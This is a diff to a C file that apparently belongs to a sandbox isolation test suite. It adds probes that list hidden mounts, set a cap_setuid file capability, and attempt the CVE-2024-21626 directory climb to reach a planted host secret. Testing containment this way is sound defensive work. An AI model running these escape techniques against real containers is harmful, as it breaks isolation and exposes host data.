@@ -6,12 +6,14 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <sys/xattr.h>
 #include <unistd.h>
 
 #include "probe.h"
@@ -266,4 +268,46 @@ int old_files(void) {
 
 int old_env(void) {
     return *probe_env("PLANTED") ? 0 : ENOENT;
+}
+
+/* listmount(2) of Linux 6.8: names what /proc hides. */
+int list_mounts(void) {
+    enum { NR_LISTMOUNT = 458 };
+    struct {
+        uint32_t size, spare;
+        uint64_t mount, parameter;
+    } ask = {24, 0, UINT64_MAX, 0};
+    uint64_t ids[16];
+    return probe_result(syscall(NR_LISTMOUNT, &ask, ids, 16, 0));
+}
+
+/* cap_setuid, in the form of revision 2. */
+int file_capability(void) {
+    const uint32_t value[5] = {0x02000001, 1 << 7, 0, 0, 0};
+    int fd = open("/tmp/capable", O_WRONLY | O_CREAT, 0755);
+    if (fd < 0) return errno;
+    int result =
+        probe_result(fsetxattr(fd, "security.capability", value, 20, 0));
+    close(fd);
+    unlink("/tmp/capable");
+    return result;
+}
+
+/* A directory of the host that was left as the working directory, or below a
+ * descriptor: CVE-2024-21626. */
+int climb_out(void) {
+    static const char up[] = "../../../../../../../../..";
+    char path[4096];
+    int first = ENOENT;
+    for (int i = -1; i < 16; i++) {
+        if (i < 0)
+            snprintf(path, sizeof path, "%s%s", up, probe_env("SECRET"));
+        else
+            snprintf(path, sizeof path, "/proc/self/fd/%d/%s%s", i, up,
+                     probe_env("SECRET"));
+        int result = probe_open(path, O_RDONLY);
+        if (result == 0) return 0;
+        if (i < 0) first = result;
+    }
+    return first;
 }
